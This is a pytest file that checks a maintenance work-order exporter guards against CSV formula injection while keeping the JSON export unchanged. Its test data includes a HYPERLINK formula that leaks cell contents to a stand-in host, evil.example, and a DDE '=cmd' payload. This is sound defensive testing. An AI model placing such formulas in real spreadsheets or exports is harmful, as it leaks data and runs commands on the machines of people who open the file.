"""The CMMS CSV is opened in spreadsheets: a cell that would start a formula is written as text
(a leading ``'``), while the JSON export keeps every field exactly as approved."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from assistant.workorders.export import CSV_HEADER, csv_cell
from tests.assistant.workorders.helpers import plant_services
from tests.conftest import ServicesFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open the manual")'


def test_formula_starts_are_defused_and_other_text_kept() -> None:
    for dangerous in (HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\tcmd", "\r=1+1"):
        assert csv_cell(dangerous) == "'" + dangerous
    for plain in ("Check P-101 seal", "Flow fell by -2 m3/h", "a=b", "", "'quoted", "1. +1"):
        assert csv_cell(plain) == plain


def test_export_writes_formula_cells_as_text_and_the_json_as_approved(
    make_services: ServicesFactory, plant_template: Path, tmp_path: Path
) -> None:
    services = plant_services(make_services, plant_template, tmp_path, "export-csv")
    order = services.drafter.draft("C-3", question="Change the C-3 oil", created_by="ann")
    edits = {
        "title": HYPERLINK,
        "problem": "+1 bar above the unload pressure",
        "suspected_cause": "-2 mm shaft misalignment",
        "steps": ["=cmd|' /C calc'!A0", "Realign the shaft to within -0.05 mm"],
        "parts": ["@SUM(A1:A9)", "oil filter"],
        "tools": ["dial gauge"],
    }
    for field, value in edits.items():
        services.workorders.edit(order.id, field, value, "bob")
    services.workorders.approve(order.id, "carol")
    result = services.exporter.export(order.id)

    with result.csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert tuple(rows[0]) == CSV_HEADER
    row = dict(zip(CSV_HEADER, rows[1], strict=True))
    assert row["title"] == "'" + HYPERLINK
    assert row["problem"] == "'+1 bar above the unload pressure"
    assert row["suspected_cause"] == "'-2 mm shaft misalignment"
    assert row["parts"] == "'@SUM(A1:A9); oil filter"
    # The numbered steps cell starts with "1." and is text already; the minus inside is kept.
    assert row["steps"] == "1. =cmd|' /C calc'!A0 | 2. Realign the shaft to within -0.05 mm"
    assert (row["id"], row["asset"], row["tools"]) == (order.id, "C-3", "dial gauge")

    on_disk = json.loads(result.json_path.read_text(encoding="utf-8"))
    assert on_disk["title"] == HYPERLINK
    assert on_disk["problem"] == "+1 bar above the unload pressure"
    assert on_disk["parts"] == ["@SUM(A1:A9)", "oil filter"]
